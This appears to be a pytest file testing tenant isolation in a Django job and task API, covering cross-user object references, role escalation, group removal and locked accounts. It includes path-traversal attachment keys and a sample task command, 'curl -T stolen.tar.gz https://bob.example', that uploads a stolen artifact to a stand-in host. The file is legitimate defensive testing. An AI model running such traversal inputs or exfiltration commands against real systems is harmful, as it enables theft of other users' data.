"""Beyond the matrix: a stranger naming alice's objects inside requests on his own (ids in
bodies and query strings, keys that climb out of his group, a worker reporting on a task it does
not hold), and a member who leaves a group taking nothing of it along."""

import pytest
from rest_framework.test import APIClient

from apps.groups import services as groups
from apps.groups.models import Group
from apps.jobs.models import Job
from apps.jobs.states import Status
from apps.workers.models import GroupWorker

from .checks import assert_error, unchanged
from .matrix import md5
from .world import TORC, client_for

pytestmark = pytest.mark.django_db


def ok(response):
    assert response.status_code == 200, (response.status_code, response.content[:300])
    return response.json()


@pytest.fixture(scope="module")
def bob_world(world):
    """bob's own workflow (a job, a file, user data, requirements, a node) and task, built in
    the module's transaction (see conftest.world)."""
    b = APIClient(**world["creds"]["bob"])
    wid = ok(b.post(f"{TORC}/workflows", {"name": "bob-wf"}, format="json"))["id"]

    def post(path, body):
        return ok(b.post(TORC + path, {"workflow_id": wid, **body}, format="json"))["id"]

    ids = {"bwid": wid, "bjob": post("/jobs", {"name": "b", "command": "true"}),
           "bfile": post("/files", {"name": "bf", "path": "/tmp/bf"}), "bud": post("/user_data", {"name": "bu"}),
           "brr": post("/resource_requirements", {"name": "br", "num_cpus": 1}),
           "bnode": post("/compute_nodes", {"hostname": "bn"})}
    ids["btask"] = ok(b.post("/tasks", {"group_name": "bob", "tags": [], "labels": [], "timeout": "10m",
                                        "priority": 0, "task_spec": {"args": ["true"]}}, format="json"))["uuid"]
    return {**world, **ids}


def torc_result(w, job_key, workflow_key="bwid"):
    return {"workflow_id": w[workflow_key], "job_id": w[job_key], "return_code": 0, "exec_time_minutes": 0.1,
            "completion_time": "2025-01-01T00:00:00Z"}


# (name, principal, method, url, body, statuses): a stranger's request on his own objects that
# names one of alice's; each must be refused (or find nothing) and change nothing.
REFUSED = [
    ("start bob's job on alice's node", "bob", "put",
     lambda w: f"{TORC}/jobs/{w['bjob']}/start_job/0/{w['node']}", None, {400}),
    ("claim for alice's node in bob's workflow", "bob", "post",
     lambda w: f"{TORC}/workflows/{w['bwid']}/claim_jobs_based_on_resources/5",
     lambda w: {"num_cpus": 4, "memory_gb": 4, "num_gpus": 0, "num_nodes": 1, "id": w["node"]}, {400}),
    ("a job of bob's reading alice's user data", "bob", "post", lambda w: f"{TORC}/jobs",
     lambda w: {"workflow_id": w["bwid"], "name": "x", "command": "true", "input_user_data_ids": [w["ud"]]}, {400}),
    ("a job of bob's writing alice's file", "bob", "post", lambda w: f"{TORC}/jobs",
     lambda w: {"workflow_id": w["bwid"], "name": "x", "command": "true", "output_file_ids": [w["file"]]}, {400}),
    ("bob's job moved into alice's workflow", "bob", "put", lambda w: f"{TORC}/jobs/{w['bjob']}",
     lambda w: {"workflow_id": w["wid"]}, {400}),
    ("bob's job made to wait on alice's", "bob", "put", lambda w: f"{TORC}/jobs/{w['bjob']}",
     lambda w: {"depends_on_job_ids": [w["job_ready"]]}, {400}),
    ("user data of bob's consumed by alice's job", "bob", "post",
     lambda w: f"{TORC}/user_data?consumer_job_id={w['job_ready']}",
     lambda w: {"workflow_id": w["bwid"], "name": "v"}, {400}),
    ("a result of bob's for alice's job", "bob", "post", lambda w: f"{TORC}/results",
     lambda w: torc_result(w, "job_running"), {400}),
    ("bob's task watching alice's", "bob", "post", lambda w: "/tasks",
     lambda w: {"group_name": "bob", "tags": [], "labels": [], "timeout": "10m", "priority": 0,
                "task_spec": {"args": ["true"], "watch": [w["task_ready"], "ExecFinished"]}}, {404}),
    ("bob's task changed to watch alice's", "bob", "put", lambda w: f"/tasks/{w['btask']}",
     lambda w: {"tags": None, "timeout": None, "priority": None,
                "task_spec": {"args": ["true"], "watch": [w["task_ready"], "ExecFinished"]}}, {404}),
    ("bob's worker attached to alice's group", "bob", "put", lambda w: f"/workers/{w['bob_worker']}/groups",
     lambda w: {"relations": {"alice": "Write"}}, {400}),
    ("bob's worker uploads for alice's task", "bob_worker", "post", lambda w: "/workers/tasks",
     lambda w: {"id": w["task_held_id"], "op": {"Upload": {"content_type": "result", "content_length": 1}}}, {404}),
    ("bob's worker cancels alice's task", "bob_worker", "post", lambda w: "/workers/tasks",
     lambda w: {"id": w["task_held_id"], "op": "Cancel"}, {404}),
    ("bob's worker commits alice's task", "bob_worker", "post", lambda w: "/workers/tasks",
     lambda w: {"id": w["task_held_id"], "op": {"Commit": {"exit_status": 0, "msg": None}}}, {404}),
]
# Attachment keys that would climb from bob's group into alice's ("bob/../alice/data/in.bin").
CLIMBS = ["../alice/data/in.bin", "x/../../alice/data/in.bin", "./../alice/data/in.bin", "..\\alice\\data\\in.bin",
          "/alice/data/in.bin", "%2e%2e/alice/data/in.bin"]
for _key in CLIMBS:
    if "%" not in _key:  # in a body "%2e%2e" is just a name; in a path it is decoded to ".."
        REFUSED += [
            (f"upload {_key}", "bob", "post", lambda w: "/groups/bob/attachments",
             lambda w, k=_key: {"key": k, "content_length": 1}, {400}),
            (f"download list {_key}", "bob", "post", lambda w: "/groups/bob/download/attachments/list",
             lambda w, k=_key: {"keys": [k]}, {400}),
        ]
    REFUSED += [
        (f"metadata {_key}", "bob", "get", lambda w, k=_key: f"/groups/bob/attachments/{k}", None, {400, 404}),
        (f"download {_key}", "bob", "get", lambda w, k=_key: f"/groups/bob/download/attachments/{k}", None,
         {400, 404}),
        (f"delete {_key}", "bob", "delete", lambda w, k=_key: f"/groups/bob/attachments/{k}", None, {400, 404}),
        (f"worker download {_key}", "bob_worker", "get",
         lambda w, k=_key: f"/workers/tasks/{w['btask']}/attachments/{k}", None, {400, 404}),
    ]


@pytest.mark.parametrize("name,principal,method,url,body,statuses", REFUSED, ids=[case[0] for case in REFUSED])
def test_a_stranger_cannot_reach_alices_objects_from_his_own(bob_world, name, principal, method, url, body, statuses):
    client = client_for(bob_world, principal)
    path = url(bob_world)
    with unchanged():
        response = getattr(client, method)(path, body(bob_world) if body else None, format="json")
        assert_error(response, statuses, path.split("?")[0])


@pytest.mark.parametrize("plural,key,body", [
    ("files", "bfile", {"name": "g", "path": "/tmp/g"}), ("user_data", "bud", {"name": "v"}),
    ("resource_requirements", "brr", {"name": "big", "num_cpus": 2}), ("compute_nodes", "bnode", {"hostname": "m"}),
])
def test_updating_his_own_object_cannot_move_it_into_alices_workflow(bob_world, plural, key, body):
    from django.apps import apps

    model = {"files": "files.File", "user_data": "files.UserData", "resource_requirements":
             "workflows.ResourceRequirements", "compute_nodes": "workers.ComputeNode"}[plural]
    model = apps.get_model(model)
    alices = list(model.objects.filter(workflow_id=bob_world["wid"]).values_list("pk", flat=True))
    response = client_for(bob_world, "bob").put(f"{TORC}/{plural}/{bob_world[key]}",
                                                 {"workflow_id": bob_world["wid"], **body}, format="json")
    assert response.status_code in (200, 400, 403, 404), response.content
    assert model.objects.get(pk=bob_world[key]).workflow_id == bob_world["bwid"]
    assert list(model.objects.filter(workflow_id=bob_world["wid"]).values_list("pk", flat=True)) == alices


def test_batch_completion_in_his_workflow_cannot_finish_alices_job(bob_world):
    w = bob_world
    body = {"completions": [{"job_id": w["job_running"], "run_id": 0, "status": "completed",
                             "result": torc_result(w, "job_running")}]}
    with unchanged():
        answer = ok(client_for(w, "bob").post(f"{TORC}/workflows/{w['bwid']}/batch_complete_jobs", body,
                                              format="json"))
    assert answer == {"completed": [], "errors": [{"job_id": w["job_running"],
                                                   "message": f"Job not found with ID: {w['job_running']}"}]}


def test_filters_in_his_own_scope_find_none_of_alices_objects(bob_world):
    w, bob = bob_world, client_for(bob_world, "bob")
    for query in (f"upstream_job_id={w['job_ready']}", f"needs_file_id={w['file']}",
                  f"active_compute_node_id={w['node']}"):
        assert ok(bob.get(f"{TORC}/jobs?workflow_id={w['bwid']}&{query}"))["items"] == [], query
    assert ok(bob.get(f"{TORC}/files?workflow_id={w['bwid']}&produced_by_job_id={w['job_failed']}"))["items"] == []
    assert ok(bob.get(f"{TORC}/results?workflow_id={w['bwid']}&job_id={w['job_failed']}"))["items"] == []
    found = ok(bob.post("/tasks/download/artifacts", {"content_type": "result", "creator_usernames": ["alice"]},
                        format="json"))
    assert found == {"downloads": []}
    tasks = ok(bob.post("/tasks/query", {"creator_usernames": ["alice"], "count": False}, format="json"))
    assert (tasks["count"], tasks["group_name"]) == (0, "bob")


# SECTION a Write member is no Admin


WRITER_ATTEMPTS = [
    ("make himself Admin", "put", lambda w: "/groups/alice/users", {"relations": {"bob": "Admin"}}),
    ("remove a member", "delete", lambda w: "/groups/alice/users?users=rita", None),
    ("change the group's role on a worker", "put", lambda w: f"/workers/{w['worker']}/groups",
     {"relations": {"alice": "Write"}}),
    ("detach a worker", "delete", lambda w: f"/workers/{w['worker']}/groups?groups=alice", None),
    ("shut a worker down", "delete", lambda w: f"/workers/{w['worker']}?op=force", None),
    ("shut the group's workers down", "post", lambda w: "/workers/shutdown", {"group_name": "alice", "op": "Force"}),
]


@pytest.mark.parametrize("name,method,url,body", WRITER_ATTEMPTS, ids=[a[0] for a in WRITER_ATTEMPTS])
def test_a_write_member_cannot_take_admin_powers(world, name, method, url, body):
    groups.group_set_roles(actor=_user("alice"), group_name="alice", relations={"bob": "Write"})
    path = url(world)
    with unchanged():
        response = getattr(client_for(world, "bob"), method)(path, body, format="json")
        assert_error(response, {403}, path)


# SECTION leaving a group


def bobs_worker_in_alices_group(world) -> APIClient:
    """bob, a Write member of alice's group, registers a worker serving it."""
    groups.group_set_roles(actor=_user("alice"), group_name="alice", relations={"bob": "Write"})
    body = ok(client_for(world, "bob").post("/workers", {"tags": [], "labels": [], "groups": ["alice"],
                                                         "lifetime": None}, format="json"))
    assert GroupWorker.objects.filter(worker__uuid=body["worker_id"], group__name="alice").exists()
    return APIClient(HTTP_AUTHORIZATION="Bearer " + body["token"])


def _user(name):
    from apps.groups.models import User

    return User.objects.get(username=name)


@pytest.mark.parametrize("leave", ["removed", "demoted"])
def test_a_member_who_leaves_a_group_takes_no_worker_of_it_along(world, leave):
    worker = bobs_worker_in_alices_group(world)
    alice = client_for(world, "alice")
    if leave == "removed":
        assert alice.delete("/groups/alice/users?users=bob").status_code == 200
    else:
        assert alice.put("/groups/alice/users", {"relations": {"bob": "Read"}}, format="json").status_code == 200
    fetched = worker.get("/workers/tasks")
    assert fetched.status_code in (200, 204), fetched.content
    task = fetched.json() if fetched.content else None
    # bob's own ready tasks may come; none of alice's group
    assert task is None or Job.objects.get(uuid=task["uuid"]).group.name != "alice", "alice's task went to bob"
    assert not GroupWorker.objects.filter(worker__creator__username="bob", group__name="alice").exists()
    assert Job.objects.get(uuid=world["task_ready"]).status == Status.READY
    assert worker.get(f"/workers/tasks/{world['task_ready']}").status_code == 404


def test_a_locked_users_credentials_and_workers_open_nothing(world):
    groups.user_set_state(username="alice", state="Locked")
    for principal in ("alice", "alice_key", "alice_basic"):
        assert_error(client_for(world, principal).get("/auth"), {401, 403}, "/auth")
        assert_error(client_for(world, principal).get(f"{TORC}/workflows/{world['wid']}"), {401, 403}, TORC)
    assert_error(client_for(world, "worker").post("/workers/heartbeat"), {401, 403}, "/workers/heartbeat")
    login = APIClient().post("/login", {"username": "alice", "md5_password": md5("pw-alice")}, format="json")
    assert_error(login, {401, 403}, "/login")


# SECTION a shared worker is no way into its owner's other groups


def test_a_shared_groups_task_cannot_pull_an_artifact_of_another_group_its_worker_serves(world):
    """alice's worker serves her own group and "lab"; bob, a Write member of lab only, submits
    to lab a task whose resource is the result of alice's private task. The worker runs bob's
    task, so what it may download is what bob's task may read: not alice's artifact."""
    alice, bob = _user("alice"), _user("bob")
    groups.group_create(creator=alice, name="lab")
    groups.group_set_roles(actor=alice, group_name="lab", relations={"bob": "Write"})
    registered = ok(client_for(world, "alice").post("/workers", {"tags": [], "labels": [], "groups": ["lab"],
                                                                 "lifetime": None}, format="json"))
    worker = APIClient(HTTP_AUTHORIZATION="Bearer " + registered["token"])
    resource = {"remote_file": {"Artifact": {"uuid": world["task_ready"], "content_type": "result"}},
                "local_path": "stolen.tar.gz"}
    submitted = client_for(world, "bob").post("/tasks", {
        "group_name": "lab", "tags": [], "labels": [], "timeout": "10m", "priority": 100,
        "task_spec": {"args": ["sh", "-c", "curl -T stolen.tar.gz https://bob.example"], "resources": [resource]}},
        format="json")
    if submitted.status_code != 200:  # refused at submit: bob cannot name what he cannot read
        assert_error(submitted, {400, 403, 404}, "/tasks")
        return
    fetched = ok(worker.get("/workers/tasks"))
    assert fetched["uuid"] == submitted.json()["uuid"] and fetched["spec"]["resources"] == [resource]
    assert groups.role_of(bob, Group.objects.get(name="alice")) is None  # bob may not read it himself
    download = worker.get(f"/workers/tasks/{world['task_ready']}/artifacts/result")
    assert_error(download, {403, 404}, "/workers/tasks")
